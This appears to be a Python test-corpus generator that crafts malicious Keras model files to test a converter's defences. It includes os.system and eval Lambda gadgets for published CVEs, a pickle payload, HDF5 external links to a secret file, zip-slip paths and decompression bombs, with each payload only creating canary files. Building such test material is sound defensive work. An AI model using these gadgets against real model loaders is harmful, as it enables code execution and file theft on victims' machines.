"""Keras files that run code, read files or reach the network when a careless reader loads them. Needs Keras.

`.keras` is a zip file of config.json, metadata.json and model.weights.h5; a good one is made by Keras and its config
changed. The published ways around Keras' safe mode are here as far as they are files:

- CVE-2025-1550: a Lambda whose function is any function of any module, called with arguments of the file
- CVE-2025-8747: the same with functions of Keras itself (keras.utils.get_file downloads and unpacks)
- CVE-2025-9906: the file calls keras.config.enable_unsafe_deserialization, then has a Lambda of bytecode
- CVE-2025-9905: an HDF5 file, for which safe_mode is ignored
- CVE-2025-12058: a StringLookup whose vocabulary is a path; CVE-2025-49655: TorchModuleWrapper, which holds a pickle
- weights that HDF5 is told to read from another file (external storage, external links)
"""

from __future__ import annotations

import base64
import copy
import io
import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import keras
import numpy as np
from corpus import Corpus
from payloads import CALLS, lambda_config, lambda_list

Config = dict[str, Any]
CONVERT = "vonk pack"


def read(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def write(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members:
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return buffer.getvalue()


class Maker:
    def __init__(self, corpus: Corpus) -> None:
        self.corpus = corpus
        scratch = corpus.home("keras_scratch")
        x = keras.Input((4,), name="x")
        model = keras.Model(x, keras.layers.Dense(3, name="y")(keras.layers.ReLU(name="inner")(x)), name="net")
        model.save(scratch / "good.keras")
        model.save(scratch / "good.h5")
        self.members, self.legacy = read(scratch / "good.keras"), (scratch / "good.h5").read_bytes()
        self.config: Config = json.loads(self.members["config.json"])

    def archive(self, config: Config | bytes, weights: bytes | None = None) -> bytes:
        text = config if isinstance(config, bytes) else json.dumps(config).encode()
        members = {**self.members, "config.json": text}
        if weights is not None:
            members["model.weights.h5"] = weights
        return write(list(members.items()))

    def case(self, name: str, config: Config | bytes, expected: str, fires: str = "", **more: Any) -> None:
        self.corpus.file(f"keras_{name}", self.archive(config, **more), "model.keras", opened=CONVERT, packed=expected,
                         fires=fires)  # fmt: skip

    def with_layer(self, layer: Config, call: Config | None = None) -> Config:
        """The good model with another layer in the place of its ReLU."""
        config = copy.deepcopy(self.config)
        inner = config["config"]["layers"][1]
        assert inner["name"] == "inner"
        for key in ("module", "class_name", "registered_name"):
            inner[key] = layer.get(key)
        inner["config"] = {"name": "inner", **layer["config"]}
        inner.update({key: value for key, value in layer.items() if key == "build_config"})
        if call is not None:
            inner["inbound_nodes"] = [{"args": [], "kwargs": call}]
        return config

    def gadget(self, module: str, function: str, inputs: Any, **arguments: Any) -> Config:
        """A Lambda that calls module.function(inputs, **arguments)."""
        named = {"module": module, "class_name": "function", "config": function, "registered_name": "function"}
        return self.with_layer(
            {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
             "config": {"function": named, "arguments": arguments}},
            {"inputs": inputs},
        )  # fmt: skip

    def lambda_layer(self, canary: Path) -> Config:
        config = {"function": lambda_config(canary), "arguments": {}}
        return {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "config": config}


def lambdas(maker: Maker) -> None:
    canary = maker.corpus.canary
    maker.case("lambda", maker.with_layer(maker.lambda_layer(canary("keras_lambda"))), "lambda", "keras")
    inner = maker.with_layer(maker.lambda_layer(canary("keras_lambda_nested")))
    nested = copy.deepcopy(maker.config)
    nested["config"]["layers"][1] |= {
        "class_name": "Functional", "module": "keras.src.models.functional", "registered_name": "Functional",
        "config": {**inner["config"], "name": "inner"},
    }  # fmt: skip
    maker.case("lambda_nested", nested, "lambda")
    wrapped = {"module": "keras.layers", "class_name": "TimeDistributed", "registered_name": None,
               "config": {"layer": maker.lambda_layer(canary("keras_lambda_wrapped"))}}  # fmt: skip
    maker.case("lambda_wrapped", maker.with_layer(wrapped), "lambda")
    bare = {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
            "config": {"units": 4, "activation": lambda_config(canary("keras_lambda_activation"))}}  # fmt: skip
    maker.case("lambda_activation", maker.with_layer(bare), "lambda")
    spaced = maker.lambda_layer(canary("keras_lambda_src")) | {"module": "keras.src.layers.core.lambda_layer"}
    maker.case("lambda_src", maker.with_layer(spaced), "lambda")


def published(maker: Maker) -> None:
    canary = maker.corpus.canary
    for module, function in (("os", "system"), ("posix", "system"), ("subprocess", "getoutput")):
        name = f"cve_2025_1550_{module}"
        config = maker.gadget(module, function, f"touch '{canary(f'keras_{name}')}'")
        maker.case(name, config, "'", "keras_call")
    name = "cve_2025_1550_eval"
    maker.case(
        name, maker.gadget("builtins", "eval", f"open({str(canary(f'keras_{name}'))!r}, 'w')"), "'", "keras_call"
    )
    target = canary("keras_cve_2025_8747")
    arguments = {"origin": f"file://{maker.corpus.secret}", "cache_dir": str(target.parent), "cache_subdir": ""}
    maker.case("cve_2025_8747", maker.gadget("keras.utils", "get_file", target.name, **arguments), "'", "keras_call")
    unsafe = maker.gadget("keras.config", "enable_unsafe_deserialization", None)
    layer = maker.lambda_layer(canary("keras_cve_2025_9906"))
    unsafe["config"]["layers"].insert(2, {**layer, "name": "second", "inbound_nodes": []})
    unsafe["config"]["layers"][2]["config"]["name"] = "second"
    maker.case("cve_2025_9906", unsafe, "'")
    other = maker.corpus.home("keras_load_model") / "inner.keras"
    inner = maker.with_layer(maker.lambda_layer(canary("keras_load_model")))
    other.write_bytes(maker.archive(inner))
    maker.case("load_model", maker.gadget("keras.models", "load_model", str(other), safe_mode=False), "'", "keras_call")
    lookup = {"module": "keras.layers", "class_name": "StringLookup", "registered_name": None,
              "config": {"vocabulary": str(maker.corpus.secret)}}  # fmt: skip
    maker.case("cve_2025_12058", maker.with_layer(lookup), "'")
    bomb = pickle.dumps(CALLS["system"](canary("keras_cve_2025_49655")))
    state = {"class_name": "__bytes__", "config": {"value": base64.b64encode(bomb).decode()}}
    wrapper = {"module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": None,
               "config": {"module": state}}  # fmt: skip
    maker.case("cve_2025_49655", maker.with_layer(wrapper), "'")


def strangers(maker: Maker) -> None:
    """Classes and functions that are not Keras'."""
    evil = maker.corpus.canary("keras_own_module")
    layer = {"module": "evil", "class_name": "Evil", "registered_name": "evil>Evil", "config": {}}
    maker.case("own_module", maker.with_layer(layer), "'")
    home = maker.corpus.home("keras_own_module")
    (home / "evil.py").write_text(f"open({str(evil)!r}, 'w').close()\n\n\nclass Evil:\n    pass\n")
    plain = {**layer, "registered_name": None}
    maker.case("module_main", maker.with_layer({**plain, "module": "__main__"}), "'")
    maker.case("module_none", maker.with_layer({**plain, "module": None}), "'")
    maker.case("module_prefix", maker.with_layer({**plain, "module": "keras_evil.layers"}), "'")
    maker.case("module_no_layer", maker.with_layer({**plain, "module": "keras.src.utils.python_utils"}), "'")
    maker.case("module_dataset", maker.with_layer(
        {**plain, "module": "keras.datasets.mnist", "class_name": "load_data"}), "'")  # fmt: skip
    trojan = {**layer, "module": "keras.layers", "class_name": "ReLU", "registered_name": "evil>ReLU"}
    maker.case("registered_name", maker.with_layer(trojan), "'")
    compiled = copy.deepcopy(maker.config)
    named = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
    compiled["compile_config"] = {"optimizer": "adam", "loss": named, "metrics": None}
    maker.case("loss_function", compiled, "")  # it may be packed: without training nobody looks at it
    initial = {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
               "config": {"units": 4, "kernel_initializer": named}}  # fmt: skip
    maker.case("initializer_function", maker.with_layer(initial), "'")


def structure(maker: Maker) -> None:
    corpus, good = maker.corpus, list(maker.members.items())

    def raw(name: str, content: bytes, expected: str = "'", file: str = "model.keras", fires: str = "") -> Path:
        return corpus.file(f"keras_{name}", content, file, opened=CONVERT, packed=expected, fires=fires)

    evil = maker.with_layer(maker.lambda_layer(corpus.canary("keras_two_configs")))
    raw("two_configs", write([*good, ("config.json", json.dumps(evil).encode())]))
    first = [("config.json", json.dumps(evil).encode()), *good]
    raw("two_configs_other_order", write(first))
    raw("more_members", write([*good, ("evil.py", b"import os\n"), ("run.sh", b"#!/bin/sh\n")]))
    raw("slip", write([*good, ("../../../canaries/keras_slip", b"x")]), fires="zip_slip")
    raw("slip_assets", write([*good, ("assets/../../../../canaries/keras_slip_assets", b"x")]), fires="zip_slip")
    raw("no_config", write([item for item in good if item[0] != "config.json"]))
    raw("no_weights", write([item for item in good if item[0] != "model.weights.h5"]))
    bomb = [("config.json", b" " * (400 << 20)), *good[1:]]
    raw("bomb", write(bomb, zipfile.ZIP_DEFLATED))
    whole = write(good)
    for i, size in enumerate((4, 100, len(whole) // 2, len(whole) - 10)):
        raw(f"truncated_{i}", whole[:size])
    raw("empty", b"")
    raw("text", b"hello\n" * 100)
    for name, config in {
        "json": b"{", "json_list": b"[]", "json_deep": b'{"a":' * 50_000 + b"1" + b"}" * 50_000, "json_nothing": b"{}",
        "json_binary": bytes(range(256)),
    }.items():  # fmt: skip
        maker.case(name, config, "'")
    giant = {"module": "keras.layers", "class_name": "Dense", "registered_name": None, "config": {"units": 1 << 31}}
    maker.case("units_2_31", maker.with_layer(giant), "'")
    cycle = copy.deepcopy(maker.config)
    tensor = cycle["config"]["layers"][1]["inbound_nodes"][0]["args"][0]["config"]["keras_history"]
    tensor[0] = "y"
    maker.case("cycle", cycle, "'")


def weights(maker: Maker) -> None:
    """HDF5 that says that its numbers lie in another file."""
    secret = maker.corpus.secret

    def edited(edit: Callable[[h5py.File], None]) -> bytes:
        buffer = io.BytesIO(maker.members["model.weights.h5"])
        with h5py.File(buffer, "r+") as file:
            edit(file)
        return buffer.getvalue()

    found: list[str] = []
    with h5py.File(io.BytesIO(maker.members["model.weights.h5"])) as file:
        file.visititems(lambda name, item: found.append(name) if isinstance(item, h5py.Dataset) else None)
    kernel = found[0]

    def stored_outside(file: h5py.File) -> None:
        shape, dtype = file[kernel].shape, file[kernel].dtype
        del file[kernel]
        size = int(np.prod(shape)) * dtype.itemsize
        file.create_dataset(kernel, shape, dtype, external=[(str(secret), 0, size)])

    def linked_outside(file: h5py.File) -> None:
        del file[kernel]
        file[kernel] = h5py.ExternalLink(str(secret), "/w")

    maker.case("weights_external", maker.config, "'", weights=edited(stored_outside))
    maker.case("weights_link", maker.config, "'", weights=edited(linked_outside))
    maker.case("weights_cut", maker.config, "'", weights=maker.members["model.weights.h5"][:-300])
    maker.case("weights_text", maker.config, "'", weights=b"these are no weights")


def legacy(maker: Maker) -> None:
    corpus = maker.corpus

    def edited(name: str, edit: Callable[[h5py.File], None], expected: str = "'", fires: str = "") -> None:
        buffer = io.BytesIO(maker.legacy)
        with h5py.File(buffer, "r+") as file:
            edit(file)
        corpus.file(f"h5_{name}", buffer.getvalue(), "model.h5", opened=CONVERT, packed=expected, fires=fires)

    def configured(function: Any, **more: Any) -> Callable[[h5py.File], None]:
        def edit(file: h5py.File) -> None:
            config = json.loads(file.attrs["model_config"])
            layer = config["config"]["layers"][1]
            layer |= {"class_name": "Lambda", "module": "keras.layers", "registered_name": None, **more}
            layer["config"] = {"name": "inner", "function": function, "arguments": {}}
            file.attrs["model_config"] = json.dumps(config)

        return edit

    canary = corpus.canary
    edited("cve_2025_9905", configured(lambda_config(canary("h5_cve_2025_9905"))), "lambda", "keras")
    listed = configured(lambda_list(canary("h5_lambda_list")), function_type="lambda")
    edited("lambda_list", listed, "lambda")
    named = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
    edited("function", configured(named))

    def trained(file: h5py.File) -> None:
        file.attrs["training_config"] = json.dumps({"loss": named, "optimizer_config": {}, "metrics": []})

    edited("training_config", trained, "")

    def outside(file: h5py.File) -> None:
        names: list[str] = []
        file.visititems(lambda name, item: names.append(name) if isinstance(item, h5py.Dataset) else None)
        shape, dtype = file[names[0]].shape, file[names[0]].dtype
        del file[names[0]]
        size = int(np.prod(shape)) * dtype.itemsize
        file.create_dataset(names[0], shape, dtype, external=[(str(corpus.secret), 0, size)])

    edited("weights_external", outside)
    edited("no_config", lambda file: file.attrs.__delitem__("model_config"))
    for i, size in enumerate((8, 100, len(maker.legacy) // 2)):
        corpus.file(f"h5_truncated_{i}", maker.legacy[:size], "model.h5", opened=CONVERT, packed="'")


def make(corpus: Corpus) -> None:
    maker = Maker(corpus)
    lambdas(maker)
    published(maker)
    strangers(maker)
    structure(maker)
    weights(maker)
    legacy(maker)
